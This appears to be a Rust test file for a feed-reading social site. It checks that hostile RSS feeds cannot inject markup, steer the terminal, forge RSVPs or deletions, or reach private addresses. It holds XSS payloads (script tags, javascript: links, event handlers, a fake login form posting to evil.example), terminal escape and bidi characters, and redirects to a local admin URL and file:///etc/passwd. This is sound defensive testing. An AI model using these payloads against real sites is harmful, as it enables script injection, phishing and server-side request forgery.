//! A friend's feed that wants to do harm: nothing of it reaches a page, the terminal or the disk.

use crate::crawl::Crawl;
use crate::feed_server::FeedServer;
use crate::preview::Preview;
use crate::sandbox::Sandbox;

/// What an attacker would try, in every place where a feed has room for text.
const ATTACKS: [&str; 14] = [
    "<script>alert(1)</script>",
    "<style>body{display:none}</style>",
    "<iframe src=\"https://evil.example/frame\"></iframe>",
    "<img src=\"https://evil.example/pixel.gif\" onerror=\"alert(2)\">",
    "<a href=\"javascript:alert(3)\">click</a>",
    "<a href=\" java\nscript:alert(4)\">click</a>",
    "<a href=\"data:text/html,<script>alert(5)</script>\">click</a>",
    "<svg><script>alert(6)</script></svg>",
    "<math><mi xlink:href=\"javascript:alert(7)\">x</mi></math>",
    "<form action=\"https://evil.example/\"><input name=password><button>Log in</button></form>",
    "<div class=\"p-rsvp h-entry u-like-of\" style=\"position:fixed\" id=\"main\" onclick=\"alert(8)\">yes</div>",
    "<link rel=stylesheet href=\"https://evil.example/x.css\"><meta http-equiv=refresh content=\"0;url=https://evil.example/\">",
    "<object data=\"https://evil.example/o\"></object><embed src=\"https://evil.example/e\"><base href=\"https://evil.example/\">",
    "</main></body></html><!-- -->]]>\"'><b>out",
];

/// Moves the cursor, renames the window, hides what follows.
const ESCAPES: &str = "\u{9b}2J\u{202e}drow\u{200f}";

fn escaped(text: &str) -> String {
    text.replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
        .replace('"', "&quot;")
}

/// Mallory's feed: each attack as a post's title, text, summary, author, category and address.
fn mallory() -> FeedServer {
    let server = FeedServer::start();
    let site = server.url();
    let items = ATTACKS.iter().enumerate().map(|(at, attack)| {
        let text = escaped(attack);
        format!(
            "<item><title>{text}{ESCAPES}</title><guid isPermaLink=\"false\">{at}-{text}</guid><link>{site}{at}/?q={text}</link>\
             <author>{text}</author><category>{text}</category><pubDate>{:02} Jun 2026 10:00:00 GMT</pubDate>\
             <description>{text}{ESCAPES} https://ada.example/2026/06/supper/</description>\
             <content:encoded><![CDATA[<p class=\"p-in-reply-to\"><a class=\"u-in-reply-to\" href=\"https://ada.example/2026/06/supper/\">Re</a></p>{}{ESCAPES}]]></content:encoded></item>",
            at + 1,
            attack.replace("]]>", "")
        )
    });
    let items: String = items.collect();
    server.serve(
        "/feed.xml",
        format!(
            "<rss version=\"2.0\" xmlns:content=\"http://purl.org/rss/1.0/modules/content/\"><channel><title>{0}</title>\
             <link>javascript:alert(9)</link><description>{0}</description>{items}\
             <item><title>x</title><guid>js</guid><link>javascript:alert(10)</link><description>x</description></item></channel></rss>",
            escaped(ATTACKS[0])
        ),
    );
    server
}

/// Ada follows Mallory, and even shows all of it.
fn table(mallory: &FeedServer) -> Sandbox {
    Sandbox::new()
        .write(
            "events/2026-06-01-supper.md",
            "---\ntitle: Supper\nstart: 2026-06-20 19:00\n---\n\nCome.\n",
        )
        .write(
            "friends.yaml",
            &format!("{}  republish: full\n", mallory.as_friend("Mallory")),
        )
}

#[test]
fn a_hostile_feed_leaves_nothing_harmful_on_any_page() {
    for consent in ["excerpt", "full"] {
        let mallory = mallory();
        let site = table(&mallory);
        site.edit("potluck.yaml", "network:", &format!("timeline: {{ publish: {consent} }}\ncircle: {{ publish: true, whats_on: true }}\nnetwork:"));
        assert_eq!(site.complaint(["pull"], 0), "");
        assert_eq!(site.complaint(["build"], 0), "");
        assert!(site.main("timeline/index.html").contains("Mallory"));
        let crawl = Crawl::of(&site.path("public"));
        crawl.is_harmless();
        crawl.asks_nobody();
        crawl.is_whole();
        for file in site
            .files("public")
            .iter()
            .filter(|file| file.ends_with(".html") || file.ends_with(".xml"))
        {
            let text = site.read(&format!("public/{file}"));
            let hidden = text.chars().find(|c| c.is_ascii_control() && *c != '\n');
            assert_eq!(hidden, None, "{file}");
            for sign in [
                "<script>alert",
                "<iframe",
                "<style>body",
                "href=\"javascript:",
                "href=\"data:",
                "onerror=\"",
                "onclick=\"",
                "evil.example/frame\"></iframe",
            ] {
                assert!(!text.contains(sign), "{file} holds {sign}");
            }
        }
    }
}

#[test]
fn a_hostile_feed_cannot_steer_the_terminal() {
    let mallory = mallory();
    let site = table(&mallory);
    site.run(["pull"]).success();
    for arguments in [
        &["read"][..],
        &["read", "--json"],
        &["friends"],
        &["friends", "--json"],
        &["pull"],
        &["build", "-v"],
    ] {
        let output = site
            .run(arguments.iter().copied())
            .success()
            .get_output()
            .clone();
        let said = String::from_utf8([output.stdout, output.stderr].concat()).unwrap();
        let steers = |c: char| {
            c != '\n' && c.is_control()
                || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
        };
        assert!(!said.contains(steers), "{arguments:?}: {said:?}");
    }
}

#[test]
fn nobody_can_answer_in_another_persons_name() {
    let mallory = FeedServer::start();
    let supper = "https://ada.example/2026/06/supper/";
    mallory.serve(
        "/feed.xml",
        format!(
            "<rss version=\"2.0\" xmlns:dc=\"http://purl.org/dc/elements/1.1/\"><channel><title>Zoe</title><link>https://zoe.example/</link><description>x</description>\
             <item><guid>https://zoe.example/1/</guid><link>https://zoe.example/1/</link><dc:creator>Zoe</dc:creator><pubDate>Thu, 04 Jun 2026 12:00:00 GMT</pubDate><description>RSVP yes: {supper}</description></item></channel></rss>"
        ),
    );
    let site = table(&mallory);
    site.run(["pull"]).success();
    site.run(["build"]).success();
    let page = site.main("2026/06/supper/index.html");
    assert!(!page.contains("Zoe"), "{page}");
}

#[test]
fn no_trick_of_a_feed_speaks_for_another() {
    let (ben, mallory) = (FeedServer::start(), FeedServer::start());
    let (supper, bread) = (
        "https://ada.example/2026/06/supper/",
        format!("{}bread/", ben.url()),
    );
    let feed = |home: &str, items: &str| {
        format!(
            "<rss version=\"2.0\" xmlns:at=\"http://purl.org/atompub/tombstones/1.0\" xmlns:content=\"http://purl.org/rss/1.0/modules/content/\"><channel><title>x</title><link>{home}</link><description>x</description>{items}</channel></rss>"
        )
    };
    let item = |url: &str, content: &str, more: &str| {
        format!(
            "<item><guid>{url}</guid><link>{url}</link><pubDate>05 Jun 2026 12:00:00 GMT</pubDate><content:encoded><![CDATA[{content}]]></content:encoded>{more}</item>"
        )
    };
    let good = [
        item(&bread, "Bread is ready.", ""),
        item(
            &format!("{}re/", ben.url()),
            &format!("Re: {supper}<br>See you there."),
            "",
        ),
    ];
    ben.serve("/feed.xml", feed(&ben.url(), &good.concat()));
    let me = mallory.url();
    let quote = format!(
        "<div class=h-entry><a class=u-url href={bread}>x</a><a class=u-in-reply-to href={supper}><data class=p-rsvp value=yes></data></a></div>"
    );
    let bad = [
        // Ada's event and Ben's post, claimed as hers.
        item(supper, "Supper is off, says nobody but me.", ""),
        item(&bread, "The bread is mouldy.", ""),
        item(
            &format!("{me}1/"),
            &format!(
                "<div class=h-entry>Mine.<a class=u-syndication href={bread}>copy</a><a class=u-url href={supper}></a></div>"
            ),
            "",
        ),
        // Ben's answer, said to be copied from his feed.
        item(
            &format!("{me}2/"),
            &format!("RSVP no: {supper}"),
            &format!("<source url=\"{}feed.xml\">Ben</source>", ben.url()),
        ),
        // Ben, quoted as coming.
        item(
            &format!("{me}3/"),
            &format!("<blockquote>{quote}</blockquote>"),
            "",
        ),
        // A tombstone for what is Ben's, and for what is Ada's.
        format!(
            "<at:deleted-entry ref=\"{bread}\" when=\"2026-06-14T00:00:00Z\"/><at:deleted-entry ref=\"{supper}\" when=\"2026-06-14T00:00:00Z\"/>"
        ),
    ];
    mallory.serve("/feed.xml", feed(&ben.url(), &bad.concat()));
    let site = table(&mallory);
    let list = site.read("friends.yaml");
    let both = list + &ben.as_friend("Ben");
    site.put("friends.yaml", both.as_bytes());
    site.run(["pull"]).success();
    site.run(["build"]).success();
    let page = site.main("2026/06/supper/index.html");
    assert!(
        page.contains("Coming: 1") && page.contains("See you there."),
        "{page}"
    );
    assert!(!page.contains("Supper is off"), "{page}");
    let read = site.prints(["read", "--unfolded", "-n", "50"]);
    let (_, ben_says) = read.split_once("Ben ·").unwrap();
    assert!(ben_says.contains("Bread is ready."), "{read}");
    assert!(read.contains("Supper"), "{read}");
    assert!(!read.contains("RSVP no"), "{read}");
}

#[test]
fn a_feed_cannot_reach_into_the_private_network() {
    let mallory = FeedServer::start();
    let site = table(&mallory);
    for (behind, why) in [
        (
            "http://127.0.0.2:8080/admin",
            "`127.0.0.2` is not a public address, so it was not asked",
        ),
        ("file:///etc/passwd", "`file` is not an address of the web"),
    ] {
        mallory.redirect("/feed.xml", behind);
        let said = site.complaint(["pull"], 0);
        assert!(said.contains(why), "{said}");
    }
}

#[test]
fn however_much_a_friend_says_each_page_at_home_is_small_and_all_of_it_is_on_one() {
    let mallory = FeedServer::start();
    // Answers, posts, and a few that are as long as a post can be.
    let items = (0..700).map(|n| {
        let answers = "<a class=\"u-in-reply-to\" href=\"https://ada.example/2026/06/supper/\">Re</a>";
        let (re, text) = match n {
            0..300 => (answers, String::new()),
            690.. => ("", "<p>much ".repeat(90_000 / 8)),
            _ => ("", String::new()),
        };
        let (day, minute) = (n / 60 + 1, n % 60);
        format!("<item><guid>BENx/{n}/</guid><link>BENx/{n}/</link><pubDate>{day:02} Jun 2026 10:{minute:02}:00 GMT</pubDate><content:encoded><![CDATA[{re} word{n}w {text}]]></content:encoded></item>")
    });
    mallory.serve_items("Mallory", &items.collect::<String>());
    let site = table(&mallory);
    site.run(["pull"]).success();
    let preview = Preview::start(&site);
    let folded = preview.get("/-/timeline/").body;
    assert!(folded.contains("250 more from Mallory"), "{folded}");

    let mut next = Some("?unfolded=yes".to_string());
    let (mut pages, mut whole) = (0, String::new());
    while let Some(query) = next {
        let page = preview.get(&format!("/-/timeline/{query}")).body;
        assert!(page.len() < 3 << 20, "{query}: {} bytes", page.len());
        let (_, older) = page.split_once("class=\"older\"").unwrap_or_default();
        let (_, older) = older.split_once("href=\"/-/timeline/").unwrap_or_default();
        next = older
            .split_once('"')
            .map(|(query, _)| query.replace("&amp;", "&"));
        pages += 1;
        whole += &page;
    }
    assert!((4..10).contains(&pages), "{pages} pages");
    for n in 0..700 {
        assert!(whole.contains(&format!("word{n}w")), "word{n}w is nowhere");
    }
}
